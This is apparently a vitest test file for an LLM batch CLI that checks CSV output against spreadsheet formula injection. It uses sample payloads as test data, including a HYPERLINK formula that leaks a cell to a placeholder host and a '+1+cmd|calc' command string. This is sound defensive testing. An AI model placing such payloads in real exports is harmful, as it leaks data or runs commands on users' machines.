import { execFile } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeResults } from '../../src/cli/write-results.js';
import type { BatchResult } from '../../src/models/batch-result.js';
import { createMockProviderServer, type MockProviderServer } from '../../src/testing/mock-server/index.js';
import { buildCli, childEnvironment, repositoryRoot, temporaryFolder, type CliRun } from './cli-harness.js';

const usage = { inputTokens: 3, outputTokens: 5, totalTokens: 8 };

function succeeded(id: string, text: string): BatchResult {
  return { id, status: 'succeeded', text, finishReason: 'stop', model: 'gpt-5.4-mini', usage, attempts: 1 } as BatchResult;
}

async function csvOf(results: BatchResult[]): Promise<string[]> {
  let text = '';
  async function* source() {
    yield* results;
  }
  const job = { id: 'job_1', status: 'completed' as const, counts: { total: results.length, succeeded: results.length, failed: 0, cancelled: 0, expired: 0, pending: 0 } };
  await writeResults('csv', job, source(), (piece) => void (text += piece));
  return text.split('\r\n').slice(1, -1);
}

describe('CSV output and formula injection', () => {
  it.each([
    ['=HYPERLINK("http://example.test/?leak="&A1,"click")', `"'=HYPERLINK(""http://example.test/?leak=""&A1,""click"")"`],
    ['+1+cmd|calc', `"'+1+cmd|calc"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises a text cell that starts %j with a leading quote', async (text, cell) => {
    const [row] = await csvOf([succeeded('a', text)]);
    expect(row).toBe(`a,succeeded,${cell},,stop,gpt-5.4-mini,3,5,,,`);
  });

  it('leaves other cells as they were, with RFC 4180 quoting', async () => {
    const rows = await csvOf([succeeded('a', 'Paris'), succeeded('b', 'a = b, "quoted"'), succeeded('c', '1+1=2')]);
    expect(rows).toEqual([
      'a,succeeded,Paris,,stop,gpt-5.4-mini,3,5,,,',
      'b,succeeded,"a = b, ""quoted""",,stop,gpt-5.4-mini,3,5,,,',
      'c,succeeded,1+1=2,,stop,gpt-5.4-mini,3,5,,,',
    ]);
  });

  it('neutralises every column: ids, error messages and structured output', async () => {
    const failed = {
      id: '=cmd',
      status: 'failed',
      error: { category: 'server', message: '@evil()', retryable: true },
      attempts: 1,
    } as BatchResult;
    const structured = { ...succeeded('s', '-1'), output: -1 } as BatchResult;
    const rows = await csvOf([failed, structured]);
    expect(rows).toEqual([`"'=cmd",failed,,,,,,,server,true,"'@evil()"`, `s,succeeded,"'-1","'-1",stop,gpt-5.4-mini,3,5,,,`]);
  });
});

describe('llm-batch results --output csv', () => {
  let entry: string;
  let disposeBuild: () => Promise<void>;
  let server: MockProviderServer;

  beforeAll(async () => {
    const built = buildCli();
    server = await createMockProviderServer({ respond: () => ({ text: '=HYPERLINK("http://example.test","click")' }) });
    ({ entry, dispose: disposeBuild } = await built);
  });

  afterAll(async () => {
    await Promise.all([server?.close(), disposeBuild?.()]);
  });

  function cliProcess(args: readonly string[], env: NodeJS.ProcessEnv): Promise<CliRun> {
    return new Promise((resolvePromise) => {
      execFile(process.execPath, [entry, ...args], { env, cwd: repositoryRoot, timeout: 50_000 }, (error, stdout, stderr) => {
        resolvePromise({ code: error ? (typeof error.code === 'number' ? error.code : -1) : 0, stdout, stderr });
      });
    });
  }

  it('writes a model answer that is a formula with a leading quote', async () => {
    const folder = await temporaryFolder();
    const file = await folder.file('requests.jsonl', '{"id":"a","model":"gpt-5.4-mini","messages":[{"role":"user","content":"Hi"}]}\n');
    const env = childEnvironment({ OPENAI_API_KEY: 'sk-test-csv-0123456789abcdef', OPENAI_BASE_URL: `${server.url}/v1` });
    const run = await cliProcess(['run', file, '--provider', 'openai', '--mode', 'emulated', '--output', 'csv', '--quiet', '--store', folder.path], env);
    expect(run.stderr).not.toContain('error');
    expect(run.code).toBe(0);
    const [, row] = run.stdout.split('\r\n');
    expect(row).toMatch(/^a,succeeded,"'=HYPERLINK\(""http:\/\/example\.test"",""click""\)",,stop,/);
  });
});
